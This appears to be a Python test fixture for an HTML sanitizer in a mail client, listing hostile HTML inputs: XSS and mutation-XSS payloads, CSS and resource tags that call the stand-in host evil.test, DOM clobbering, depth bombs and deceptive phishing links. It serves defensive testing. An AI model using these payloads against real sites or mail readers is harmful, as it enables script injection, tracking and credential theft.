"""HTML that attacks its reader: scripts, what changes when it is parsed again, CSS, forms, requests, depth and length.

`alert(1)` stands for what a script would do.
"""

# ruff: noqa: E501

from __future__ import annotations

from typing import Final

HOSTILE: Final = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<a href="javascript:alert(1)">click</a><a href="&#106;avascript:alert(1)">click</a>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="//evil.test/x">',
    '<meta http-equiv=refresh content="0;url=http://evil.test/">',
    '<base href="http://evil.test/"><a href="x">y</a>',
    '<link rel=stylesheet href="http://evil.test/x.css"><style>@import "http://evil.test/y.css";</style>',
    '<p style="background:url(http://evil.test/a.png)">a</p><p style="background:var(--x,url(//evil.test/b))">b</p>',
    '<img src="http://evil.test/pixel.gif" width=1><img srcset="http://evil.test/2x.png 2x">',
    '<picture><source srcset="//evil.test/s"><img></picture><video poster="http://evil.test/p" src="//x.test">',
    '<table background="http://evil.test/t.png"><tr><td>t</td></tr></table><body background="http://evil.test/b">',
    '<form action="/jmap/api" method=post><input name=x autofocus onfocus=alert(1)><button>send</button></form>',
    '<input type=image src="http://evil.test/i.png" formaction="javascript:alert(1)">',
    '<a href="/oauth/authorize" ping="http://evil.test/ping" id=cursor name=body>relative</a>',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">cover</div>',
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp>",
    "<p>" * 20_000 + "deep" + "</p>" * 20_000,
    "<b>" * 3_000 + "nested",
    "<table>" + "<tr>" + "<td>x</td>" * 50 + "</tr>" * 400 + "</table>",
    '<details open ontoggle=alert(1)><summary>s</summary></details><marquee onstart=alert(1)>m</marquee>',
    '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>">',
    '<a href="data:text/html,<script>alert(1)</script>" target=_self>data</a>',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<div data-cid="x" class="notice" id="app"><img data-cid="photo">clobber</div>',
    # mXSS: what changes its meaning when it is parsed again
    '<math><mi><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
    '<table><caption><svg><title><style><img src=x onerror=alert(1)></style></title></svg></caption></table>',
    "<svg><foreignObject><math><mi><mtext><style></math><img src onerror=alert(1)></style></mtext></mi></math></svg>",
    '<a><math><annotation-xml encoding="text/html"><p><img src=x onerror=alert(1)></p></annotation-xml></math></a>',
    '<select><template><style><!--</select><img src=x onerror=alert(1)>--></style></template></select>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea><title><img src=x onerror=alert(1)>',
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script><![CDATA[<img src=x onerror=alert(1)>]]>",
    "<img src=x:x onerror\x0b=alert(1)><img/src=x/onerror=alert(1)><img src=`x`onerror=alert(1)>",
    # CSS
    '<p style="background:u\\72l(http://evil.test/c)">a</p><p style="background-image:image-set(\'//evil.test/d\' 1x)">b</p>',
    '<p style="list-style:url(http://evil.test/e);cursor:url(//evil.test/f),auto;content:url(//evil.test/g)">c</p>',
    '<p style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.test/h)">d</p>',
    '<p style="--x:url(//evil.test/i);background:var(--x)">e</p><p style="border-image:url(//evil.test/j) 1">f</p>',
    '<p style="mask:url(//evil.test/k);filter:url(//evil.test/l#m);shape-outside:url(//evil.test/n)">g</p>',
    '<p style="background:url(http://evil.test/unclosed">h</p><p style="position:/**/fixed;inset:0">i</p>',
    '<font face="x;background:url(//evil.test/o)">j</font><td background=//evil.test/p><hr background=//evil.test/q>',
    # forms and what submits or navigates by itself
    '<form id=f action="//evil.test/r"></form><button form=f>x</button><isindex action="//evil.test/s" type=image>',
    '<input type=submit formaction=javascript:alert(1)><keygen autofocus onfocus=alert(1)><output onfocus=alert(1)>',
    '<a href="\x01javascript:alert(1)">a</a><a href="java\tscript:alert(1)">b</a><a href="vbscript:alert(1)">c</a>',
    '<a xlink:href="javascript:alert(1)" href="//evil.test">d</a><area href=javascript:alert(1) shape=default>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset><applet code=x archive="//evil.test/t"></applet>',
    '<link rel=dns-prefetch href="//evil.test"><link rel=preconnect href="//evil.test"><link rel=prefetch href="//evil.test/u">',
    '<audio src="//evil.test/v" autoplay></audio><track src="//evil.test/w"><bgsound src="//evil.test/x"><img lowsrc=//evil.test/y dynsrc=//evil.test/z>',
    '<img src="http://evil.test/a" loading=eager srcset="http://evil.test/b 2x" sizes=1px><image src="http://evil.test/c">',
    "<b>cut</b><p>" + "<table><td>" * 3_000 + "deep tables",
    "<p>" + "&amp;" * 60_000 + "</p>" + "<i>x</i>" * 30_000 + "end",
    # mXSS of later years: namespaces that change, comments and attributes that become markup, depth that the parser cuts
    '<form id="outer"><div></form><form id="inner"><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<math><annotation-xml encoding="text/html"><style><a title="</style><img src onerror=alert(1)>"></style></annotation-xml></math>',
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>"></foreignobject></annotation-xml></svg>',
    "<div>" * 506 + '<svg><style><a id="</style><img src=x onerror=alert(1)>"></svg>' + "<table>" * 10,
    '<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="--><img src=x onerror=alert(1)>">',
    '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript><noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp><noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<svg><title><svg><desc><math><mi><table><mglyph><style><img title="</style><img src=x onerror=alert(1)>"></style></table></svg>',
    "<p is=x-y onfocus=alert(1) tabindex=0>is</p><x-y><template shadowrootmode=open><img src=x onerror=alert(1)><slot></slot></template></x-y>",
    "<?xml-stylesheet href='javascript:alert(1)'?><?x ><img src=x onerror=alert(1)>?><!doctype html [<!ENTITY a '<img src=x onerror=alert(1)>'>]>&a;",
    # the names of what the page itself uses
    '<form name=body><input name=parentNode><input name=attributes><input name=nodeName><img name=cookie id=location></form>'
    '<a id=defaultView></a><a id=createElement></a><a id=adoptNode></a><a id=document href="cid:x">clobbered</a>',
    # SVG and MathML
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1)/></svg>#x"/></svg>',
    '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a><set attributeName=onmouseover to=alert(1)></svg>',
    '<svg><image href="http://evil.test/1.png"/><feImage href="http://evil.test/2"/><style>@import "http://evil.test/3"</style></svg>',
    '<math href="javascript:alert(1)"><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    # CSS that tells what is in the letter, or asks for something
    "<style>@import url(//evil.test/4);a[href^='https://s']{background:url(//evil.test/5)}@font-face{font-family:x;src:url(//evil.test/6)}"
    "body{font-family:x;background:-webkit-cross-fade(url(//evil.test/7),url(//evil.test/8),50%)}</style><a href='https://secret.test/'>a</a>",
    "<p style=\"background:-webkit-image-set(url(//evil.test/9) 1x);background:cross-fade(url(//evil.test/10) 50%,red)\">a</p>"
    "<p style=\"background:src('//evil.test/11');offset-path:url(//evil.test/12)\">b</p><ul style=\"list-style-image:url('//evil.test/13')\"><li>c</ul>",
    '<p style="font-family:\'x\';@import url(//evil.test/14)">a</p><p style="color:red;}*{background:url(//evil.test/15)}">b</p>'
    '<p style="background:\\000075rl(//evil.test/16)">c</p><p style="background:url&#40;//evil.test/17)">d</p>',
    # what leads elsewhere or asks for something by itself
    '<meta http-equiv="refresh" content="0;javascript:alert(1)"><meta http-equiv="Content-Security-Policy" content="img-src *"><meta name=referrer content=unsafe-url>',
    '<link rel="preload" as="image" href="//evil.test/18"><link rel=modulepreload href="//evil.test/19"><link rel=icon href="//evil.test/20">'
    '<link rel=manifest href="//evil.test/21"><script type=speculationrules>{"prefetch":[{"urls":["//evil.test/22"]}]}</script>',
    '<img src="//evil.test/23" srcset="//evil.test/24, //evil.test/25 2x" attributionsrc="//evil.test/26" longdesc="//evil.test/27" lowsrc="//evil.test/28">',
    '<a href="https://ok.test" ping="//evil.test/29" attributionsrc="//evil.test/30">a</a><input type=image src="//evil.test/31"><embed src="//evil.test/32">',
    '<q cite="//evil.test/33">q</q><ins cite="//evil.test/34">i</ins><body background="//evil.test/35" onpageshow=alert(1)><html manifest="//evil.test/36">',
    '<object data="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml"></object><iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<img src="data:text/html,<script>alert(1)</script>"><a href="blob:http://x/1">b</a><a href="filesystem:http://x/1">f</a><a href="file:///etc/passwd">p</a>',
    '<button popovertarget=p onclick=alert(1)>x</button><div popover id=p onbeforetoggle=alert(1)>y</div><button commandfor=p command="show-modal">z</button>',
    '<p onanimationstart=alert(1) style="animation:a 1s" oncontentvisibilityautostatechange=alert(1)>a</p><video oncanplay=alert(1)><source onerror=alert(1) src=1></video>',
    # links that are not what they say; the one without a lie comes last
    '<a href="https://evil.test/">https://bank.test/login</a> <a href="https://evil.test/">www.bank.test</a> '
    '<a href="https://bank.test.evil.test/">https://bank.test</a> <a href="https://bank.test@evil.test/">https://bank.test/</a> '
    '<a href="https://evil.test/"><b>https://</b>bank.<span>test</span></a> <a href="https://xn--80ak6aa92e.com/">https://apple.com/</a> '
    '<a href="https://evil.test/">\u202ehttps://bank.test\u202c</a> <a href="https://bank.test/">https://bank.test/</a>',
]  # fmt: skip
LIES: Final = 7
"""Links of the last letter that name another host than they lead to."""
